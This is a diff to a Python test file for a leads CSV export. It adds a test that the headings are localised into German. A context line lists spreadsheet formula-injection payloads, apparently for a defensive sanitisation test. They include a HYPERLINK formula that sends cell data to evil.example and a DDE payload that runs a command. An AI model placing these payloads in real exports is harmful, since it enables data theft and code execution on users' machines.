@@ -41,6 +41,14 @@ def test_has_what_the_list_has(sales: Client) -> None:
     assert {row["Company"] for row in rows(export(sales, state="all"))} == {"A", "B", "C"}
 
 
+def test_headings_are_in_the_readers_language(sales: Client) -> None:
+    make_lead(company="A")
+    reply = sales.get(reverse("studio_leads_export"), headers={"Accept-Language": "de"})
+    (row,) = rows(b"".join(reply.streaming_content))
+    assert (row["Firma"], row["Zustand"]) == ("A", "Offen")
+    assert set(row).isdisjoint({"Company", "State", "Price from", "Flags", "First visit"})
+
+
 HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "#N/A", "1"]
 
 
